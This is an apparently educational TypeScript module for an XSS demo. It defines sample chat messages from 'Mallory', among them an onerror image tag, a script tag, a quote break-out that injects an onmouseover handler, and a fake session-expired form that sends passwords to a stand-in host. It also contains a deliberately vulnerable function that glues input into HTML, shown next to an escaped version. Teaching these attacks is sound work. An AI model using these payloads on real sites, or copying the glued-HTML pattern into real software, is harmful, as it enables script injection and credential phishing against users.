// The messages that the XSS demo proposes, and the HTML that two chats make of a message.
import { xss as words } from '../../i18n/demos/xss.ts';
import { html } from '../kit/html.ts';

export type ChatMessage = { readonly pseudo: string; readonly text: string };

/** What a message has put in the page beside text. */
export type Made = {
  /** Names of elements. */
  readonly elements: readonly string[];
  /** Attributes that hold code. */
  readonly handlers: readonly string[];
};

export type XssExample = ChatMessage & {
  readonly name: string;
  /** Known here for paper; in a page it is counted, and a browser test compares the two. */
  readonly made: Made;
};

const { examples: names } = words;
const PSEUDO = 'Mallory';

export const XSS_EXAMPLES: readonly XssExample[] = [
  {
    name: names.bold,
    pseudo: PSEUDO,
    text: 'Bonjour <b>à tous</b>',
    made: { elements: ['b'], handlers: [] },
  },
  {
    name: names.form,
    pseudo: PSEUDO,
    text: 'Session expirée <form action="//piege.exemple"><input placeholder="Mot de passe"> <button>Entrer</button></form>',
    made: { elements: ['form', 'input', 'button'], handlers: [] },
  },
  {
    name: names.image,
    pseudo: PSEUDO,
    // Without an address there is nothing to fetch: the error comes at once.
    text: '<img src onerror="alert(1)">',
    made: { elements: ['img'], handlers: ['onerror'] },
  },
  {
    name: names.script,
    pseudo: PSEUDO,
    text: '<script>alert(1)</script>',
    made: { elements: ['script'], handlers: [] },
  },
  {
    name: names.quote,
    pseudo: 'Zoé" onmouseover="alert(1)',
    text: 'Bonjour à tous',
    made: { elements: [], handlers: ['onmouseover'] },
  },
];

/** The mistake: the message is glued into HTML, where its `<` and its `"` are HTML's. */
export const gluedHtml = ({ pseudo, text }: ChatMessage): string =>
  `<div><b title="${pseudo}">${pseudo}</b> : ${text}</div>`;

/** What `textContent` and `setAttribute` make of the same message. */
export const escapedHtml = ({ pseudo, text }: ChatMessage): string =>
  String(html`<div><b title="${pseudo}">${pseudo}</b> : ${text}</div>`);

/** The one sentence to say of a message, the worst that it does. */
export function sentenceOf({ elements, handlers }: Made): string {
  const { said } = words;
  if (handlers.length > 0) return said.handlers(handlers);
  if (elements.includes('form')) return said.form;
  if (elements.includes('script')) return said.script;
  return elements.length > 0 ? said.elements(elements) : said.text;
}
